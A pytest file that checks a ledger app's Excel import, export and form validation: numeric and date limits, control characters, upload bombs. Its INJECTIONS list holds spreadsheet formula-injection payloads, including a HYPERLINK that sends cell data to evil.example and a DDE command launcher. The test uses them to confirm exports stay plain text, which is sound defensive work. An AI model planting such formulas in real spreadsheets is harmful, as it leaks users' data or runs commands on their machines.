"""Ledger input from the form and from Excel: schema limits, control characters, formulas, dates."""
import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from core.ledger.excel import export_workbook, import_workbook
from core.ledger.records import LedgerError, format_error, load_categories, validate_row
from data_models import Record

from .test_excel import count, workbook

MEETING_HEADER = ["类型", "日期", "标题", "数量", "人次", "金额（元）", "外部编号"]
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
              "\t=1", "\r=1"]


def _refused(db_session, committee_id, data) -> str:
    with pytest.raises(LedgerError) as caught:
        import_workbook(db_session, committee_id, data)
    db_session.rollback()
    return "；".join(format_error(e) for e in caught.value.errors)


@pytest.mark.parametrize("column, value, message", [
    ("数量", "NaN", "不是有效的数字"), ("数量", "sNaN", "不是有效的数字"), ("数量", "Infinity", "不是有效的数字"),
    ("数量", "inf", "不是有效的数字"), ("数量", 1e30, "过大"), ("人次", 3_000_000_000, "过大"),
    ("金额（元）", 1e15, "过大"), ("外部编号", "x" * 1000, "内容过长"),
    ("日期", "9999-12-31", "超出范围"), ("日期", "0001-01-01", "超出范围"), ("日期", "2023-W10-1", "无效"),
    ("日期", datetime(9999, 12, 31), "超出范围"), ("日期", date(1900, 1, 1), "超出范围"),
])
def test_excel_values_beyond_the_columns_are_refused(db_session, catalogue, column, value, message):
    row = {"类型": "党组会议", "日期": "2023-03-01", "标题": "党组会议", column: value}
    data = workbook({"会议": [list(row), list(row.values())]})
    assert message in _refused(db_session, catalogue.county_a.id, data)
    assert count(db_session) == 0


def test_formula_cells_without_values_are_refused(db_session, catalogue):
    data = workbook({"会议": [MEETING_HEADER, ["党组会议", "2023-03-01", "会议", "=SUM(5,5)", "=1/0", None, "F-1"]]})
    errors = _refused(db_session, catalogue.county_a.id, data)
    assert "“数量”列：是没有计算结果的公式" in errors and "“人次”列" in errors
    assert count(db_session) == 0


def test_control_characters_are_stripped_by_the_shared_row_check(db_session, catalogue):
    """Form, Excel, API and import all go through validate_row (openpyxl itself cannot carry them)."""
    info = load_categories(db_session, catalogue.county_a.id)["meeting"]
    clean, errors = validate_row(info, {"类型": "党组会议", "日期": "2023-03-01", "标题": "党组\x01会\x0b议\ud800",
                                        "备注": "备\x00注", "外部编号": "E\x1f-1"})
    assert not errors and (clean["title"], clean["note"], clean["external_id"]) == ("党组会议", "备注", "E-1")


def test_exported_text_is_never_a_formula_and_round_trips(db_session, catalogue):
    """Titles typed in the form or sent through the API (both go through validate_row)."""
    info = load_categories(db_session, catalogue.county_a.id)["meeting"]
    rows = []
    for i, title in enumerate(INJECTIONS):
        clean, errors = validate_row(info, {"类型": "党组会议", "日期": "2023-03-01", "标题": title, "外部编号": f"X-{i}"})
        assert not errors
        rows.append(Record(committee_id=catalogue.county_a.id, **clean))
    db_session.add_all(rows)
    db_session.commit()
    exported = export_workbook(db_session, catalogue.county_a.id, select(Record).order_by(Record.id))
    sheet = load_workbook(io.BytesIO(exported))["会议"]
    titles = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in titles] == ["s"] * len(rows)  # text cells, not formulas
    assert all(cell.quotePrefix for cell in titles)  # editing in Excel keeps them text
    assert [cell.value for cell in titles] == [t.strip() for t in INJECTIONS]
    db_session.execute(Record.__table__.delete())
    assert import_workbook(db_session, catalogue.county_b.id, exported) == len(rows)  # the importer reads them back


def test_export_survives_control_characters_stored_earlier(db_session, catalogue):
    meeting = load_categories(db_session, catalogue.county_a.id)["meeting"]
    db_session.add(Record(committee_id=catalogue.county_a.id, category_id=meeting.id, type_id=None,
                          date=date(2023, 3, 1), title="旧\x01标题", attrs={}))
    db_session.commit()
    sheet = load_workbook(io.BytesIO(export_workbook(db_session, catalogue.county_a.id, select(Record))))["会议"]
    assert sheet.cell(2, 3).value == "旧标题"


def test_form_refuses_bad_numbers_and_strips_control_characters(client, catalogue, db_session):
    client.login("donghu_drafter")
    page = client.post("/ledger/new/meeting", data={"type": "党组会议", "date": "2023-03-01", "title": "会议",
                                                     "count": "NaN", "amount": "1e15"})
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "不是有效的数字" in html and "过大" in html
    client.post("/ledger/new/meeting", data={"type": "党组会议", "date": "2023-03-01", "title": "党组\x01会议\x0b"})
    assert db_session.scalars(select(Record.title)).one() == "党组会议"


def test_form_refuses_a_taken_external_id(client, catalogue, db_session):
    client.login("donghu_drafter")
    form = {"type": "党组会议", "date": "2023-03-01", "title": "会议", "external_id": "E-1"}
    client.post("/ledger/new/meeting", data=form)
    page = client.post("/ledger/new/meeting", data=form)
    assert page.status_code == 200 and "外部编号已被" in page.get_data(as_text=True)
    assert count(db_session) == 1


def test_web_import_of_hostile_numbers_is_a_message(client, catalogue, db_session):
    client.login("donghu_drafter")
    data = workbook({"会议": [MEETING_HEADER, ["党组会议", "2023-03-01", "会议", "NaN", "inf", "1e30", "W-1"]]})
    page = client.post("/ledger/import", data={"file": (io.BytesIO(data), "台账.xlsx")},
                       content_type="multipart/form-data")
    assert page.status_code == 200 and "导入失败" in page.get_data(as_text=True)
    assert count(db_session) == 0


def test_cli_import_goes_through_the_upload_checks(runner, catalogue, tmp_path, app):
    from tests.security import uploads

    bomb = tmp_path / "炸弹.xlsx"
    bomb.write_bytes(uploads.xlsx_with_bombed_sheet())
    result = runner.invoke(args=["import-records", str(bomb), "--committee", "东湖县政协"])
    assert result.exit_code != 0 and "压缩炸弹" in result.output
    big = tmp_path / "大.xlsx"
    big.write_bytes(b"PK\x03\x04" + b"\0" * (app.config["WENGAO"].max_upload_bytes + 1))
    result = runner.invoke(args=["import-records", str(big), "--committee", "东湖县政协"])
    assert result.exit_code != 0 and "上限为 20 MB" in result.output


def test_absurd_metric_period_is_a_message(client, catalogue):
    client.login("donghu_drafter")
    page = client.get("/metrics/?period=0001-01-01:9999-12-31")
    assert page.status_code == 200 and "统计期间应在1949年" in page.get_data(as_text=True)
